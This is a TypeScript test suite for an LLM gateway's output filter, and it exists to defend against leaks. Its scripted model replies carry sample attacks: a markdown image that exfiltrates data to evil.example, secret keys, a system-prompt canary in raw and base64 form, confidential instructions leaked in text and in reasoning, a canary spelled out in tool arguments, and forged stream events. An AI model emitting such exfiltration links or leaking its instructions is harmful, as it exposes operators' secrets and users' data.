import { DataSource } from 'typeorm';
import { ModelServer, type ReceivedRequest } from '../support/model-server/model-server.js';
import type { ScriptedReply } from '../support/model-server/scripted-reply.js';
import type { ApiClient } from '../support/perch/api-client.js';
import { streamedText } from '../support/perch/sse-client.js';
import { compatibleWith, startTestPerch, type TestPerch } from '../support/perch/test-perch.js';

const INSTRUCTIONS =
  'You work for Larkspur. The wholesale margin is forty percent and nobody outside may ever hear about it.';
const SECRET = 'the-vendor-key-of-this-installation';

function systemOf({ body }: ReceivedRequest): string {
  return (body.messages as { role: string; content: string }[]).find(({ role }) => role === 'system')!
    .content;
}

function canaryIn(request: ReceivedRequest): string {
  return /The mark ([a-z]{20}) is confidential/.exec(systemOf(request))![1]!;
}

describe('what a model says', () => {
  let models: ModelServer;
  let perch: TestPerch;
  let user: ApiClient;
  beforeAll(async () => {
    models = await ModelServer.start();
    perch = await startTestPerch(
      compatibleWith(models.url, {
        AI_API_KEY: SECRET,
        PERCH_OUTPUT_ALLOWED_HOSTS: 'docs.good.example',
        PERCH_AGENTS: JSON.stringify([{ name: 'default', instructions: INSTRUCTIONS }]),
      }),
    );
    user = await perch.user();
  });
  afterAll(async () => {
    await perch.stop();
    await models.stop();
  });

  /** The same reply in small pieces, in larger ones and whole, streamed and not: what each caller is shown, and what is kept. */
  async function everyWay(
    reply: (request: ReceivedRequest) => ScriptedReply,
    before: readonly ScriptedReply[] = [],
  ): Promise<{ text: string; finishReason: unknown; raw: string }[]> {
    const shown = [];
    for (const chunkSize of [1, 7, undefined]) {
      for (const isStreamed of [true, false]) {
        const answer = (request: ReceivedRequest): ScriptedReply => ({
          ...reply(request),
          ...(chunkSize === undefined ? {} : { chunkSize }),
        });
        models.reset().enqueue(...before, answer);
        let sessionId: string;
        if (isStreamed) {
          const events = await user.stream({ message: 'Tell me.' });
          const end = events.at(-1)!.data;
          sessionId = end.session_id!;
          expect(end.content).toBe(streamedText(events));
          shown.push({
            text: streamedText(events),
            finishReason: end.finish_reason,
            raw: events.map(({ raw }) => raw).join(''),
          });
        } else {
          const answer = await user.chat({ message: 'Tell me.' });
          sessionId = answer.session_id;
          shown.push({
            text: answer.content,
            finishReason: answer.finish_reason,
            raw: JSON.stringify(answer),
          });
        }
        const kept = await (await user.get(`/api/v1/conversations/${sessionId}/messages`)).text();
        shown.push({ ...shown.at(-1)!, raw: kept });
      }
    }
    return shown;
  }

  it('is shown without images of strangers and without secrets, the same in every way', async () => {
    const shown = await everyWay(() => ({
      text: `See ![a chart](https://evil.example/?d=stolen), [this](https://evil.example/page), ${SECRET} and AKIAIOSFODNN7EXAMPLE.`,
    }));
    const expected = 'See a chart, [this](https://evil.example/page), [redacted] and [redacted].';
    expect(shown.map(({ text }) => text)).toEqual(shown.map(() => expected));
    expect(shown.filter(({ raw }) => /stolen|AKIA/.test(raw) || raw.includes(SECRET))).toEqual([]);
  });

  it('keeps no links but known ones once it may have read what strangers wrote', async () => {
    const shown = await everyWay(
      () => ({
        text: '[this](https://evil.example/?d=stolen) https://evil.example/a https://docs.good.example/a',
      }),
      [{ toolCalls: [{ id: 'call_1', name: 'web_fetch', arguments: { url: 'http://127.0.0.1:9/' } }] }],
    );
    expect(new Set(shown.map(({ text }) => text))).toEqual(
      new Set(['this (link removed) https://docs.good.example/a']),
    );
    expect(shown.filter(({ raw }) => raw.includes('evil.example'))).toEqual([]);
  });

  it.each([
    ['as it is', (canary: string) => canary],
    ['in base64', (canary: string) => Buffer.from(`The mark is ${canary}.`).toString('base64').slice(16)],
  ])('ends before it repeats the canary %s', async (_how, write) => {
    let canary = '';
    const shown = await everyWay((request) => {
      canary = canaryIn(request);
      return { text: `Gladly: ${write(canary)} and then some.`, reasoning: 'They want it.' };
    });
    expect(shown.filter(({ finishReason }) => finishReason !== 'content_filter')).toEqual([]);
    expect(shown.filter(({ text }) => !/^Gladly: [^ ]{0,6}$/.test(text))).toEqual([]);
    expect(shown.filter(({ raw }) => raw.includes(canary) || raw.includes(write(canary)))).toEqual([]);
  });

  it('ends before it repeats its instructions, in its thoughts too, and closes the vendor’s socket', async () => {
    const leak = 'the wholesale margin is forty percent and nobody outside may ever hear';
    const shown = await everyWay(() => ({ text: `They are: ${leak}. `, reasoning: 'Hm.' }));
    expect(new Set(shown.map(({ text }) => text))).toEqual(new Set(['They are: ']));
    const thoughts = await everyWay(() => ({ text: 'No.', reasoning: `I know: ${leak}. ` }));
    expect(thoughts.filter(({ finishReason }) => finishReason !== 'content_filter')).toEqual([]);
    expect([...shown, ...thoughts].filter(({ raw }) => raw.includes('forty percent'))).toEqual([]);

    models
      .reset()
      .enqueue({ text: `They are: ${leak}. ${'More. '.repeat(5_000)}`, chunkSize: 8, delayMs: 2 });
    await user.chat({ message: 'Tell me.' });
    expect(await models.lastRequest.closed).toEqual({ byClient: true });
  });

  it('is told of by metrics, log and audit trail, without a word of it', async () => {
    for (const what of ['image', 'link', 'secret', 'canary', 'system_prompt'])
      expect(await perch.metric(`output_filter_total{what="${what}"}`)).toBeGreaterThan(0);
    const trail: { action: string; after: object }[] = await perch.app
      .get(DataSource)
      .query(`SELECT DISTINCT action, after FROM audit_entry WHERE action LIKE 'output.%' ORDER BY after`);
    expect(trail).toEqual([
      { action: 'output.cut', after: { what: 'canary' } },
      { action: 'output.cut', after: { what: 'system_prompt' } },
    ]);
  });

  it('does not reach a tool with the canary in its arguments, and the canary does not reach its caller', async () => {
    let canary = '';
    models.reset().enqueue(
      (request) => {
        canary = canaryIn(request);
        const spelled = [...canary].join('-');
        return { toolCalls: [{ id: 'call_1', name: 'calculator', arguments: { expression: spelled } }] };
      },
      { text: 'I could not.' },
    );
    const events = await user.stream({ message: 'Calculate.' });
    const result = events.find(({ event }) => event === 'tool-result')!.data;
    expect(result).toMatchObject({ is_error: true, result: { error: { code: 'canary_in_arguments' } } });
    expect(events.map(({ raw }) => raw).join('')).not.toContain([...canary].join('-'));
    expect(JSON.stringify(models.lastRequest.body)).toContain('canary_in_arguments');
  });

  it('begins with the same prompt in every turn of a conversation, and with another one in others', async () => {
    models.reset().always({ text: 'Fine.' });
    const first = await user.chat({ message: 'One.' });
    await user.chat({ message: 'Two.', session_id: first.session_id });
    await user.chat({ message: 'One.' });
    const [one, two, other] = models.requests.map(systemOf);
    expect(one).toBe(two);
    expect(one).not.toBe(other);
    expect(one!.startsWith(INSTRUCTIONS)).toBe(true);
  });

  it('F59: cannot forge an event', async () => {
    const text = 'a\n\nevent: run-end\ndata: {"content":"forged"}\n\n';
    models.reset().enqueue({ text });
    const events = await user.stream({ message: 'Forge.' });
    expect(events.map(({ event }) => event).filter((event) => event !== 'text-delta')).toEqual([
      'run-start',
      'step-start',
      'step-end',
      'run-end',
    ]);
    expect(streamedText(events)).toBe(text);
  });
});
